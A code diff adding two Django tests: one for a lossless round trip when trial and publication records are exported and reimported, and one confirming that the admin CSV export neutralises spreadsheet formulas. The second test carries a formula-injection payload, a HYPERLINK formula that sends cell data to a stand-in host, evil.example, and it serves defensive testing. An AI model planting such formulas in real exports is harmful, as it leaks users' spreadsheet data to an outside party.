@@ -297,3 +297,50 @@ def test_admin_import_refuses_a_bad_file_with_its_reason(
         "confirm_form"
     )
     assert state() == before
+
+
+@pytest.mark.parametrize("fmt", ["csv", "json"])
+def test_an_unchanged_export_of_trials_reimports(tmp_path, fmt):
+    """D9: trials without an NCT id and publications without a DOI come back as NULL."""
+    from evidence.models import Publication
+    from tests.factories import PublicationFactory
+
+    review = ReviewFactory(slug="foo-2021")
+    ClinicalTrialFactory(source_review=review, slug="foo2021-t2-r05", nct_id=None)
+    ClinicalTrialFactory(source_review=review)
+    PublicationFactory(doi=None)
+    for entity in ("trials", "publications"):
+        out = io.StringIO()
+        call_command("export_records", entity, "--format", fmt, stdout=out)
+        path = tmp_path / f"{entity}.{fmt}"
+        path.write_text(out.getvalue())
+        for extra in (["--dry-run"], []):
+            summary = io.StringIO()
+            call_command("import_records", entity, str(path), *extra, stdout=summary)
+            assert "0 changed (0 created, 0 updated)" in summary.getvalue()
+    assert ClinicalTrial.objects.filter(nct_id=None).count() == 1
+    assert Publication.objects.filter(doi=None).count() == 1
+    assert not ClinicalTrial.objects.filter(nct_id="").exists()
+    assert not Publication.objects.filter(doi="").exists()
+
+
+def test_admin_export_neutralises_formulas(exported, admin_client_logged):
+    """D12: the admin's export (any format that is a grid of cells) is neutralised."""
+    from django.contrib import admin
+
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
+    trial = ClinicalTrial.objects.first()
+    ClinicalTrial.objects.filter(pk=trial.pk).update(design_as_printed=formula)
+    model_admin = admin.site._registry[ClinicalTrial]
+    formats = model_admin.get_export_formats()
+    index = next(i for i, f in enumerate(formats) if f().get_title() == "csv")
+    page = admin_client_logged.get("/admin/trials/clinicaltrial/export/")
+    data = {"format": index, "resource": 0}
+    for name, field in page.context["form"].fields.items():
+        if getattr(field, "is_selectable_field", False):
+            data[name] = "on"
+    response = admin_client_logged.post("/admin/trials/clinicaltrial/export/", data)
+    assert response.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    cells = {row["slug"]: row["design_as_printed"] for row in rows}
+    assert cells[trial.slug] == "'" + formula
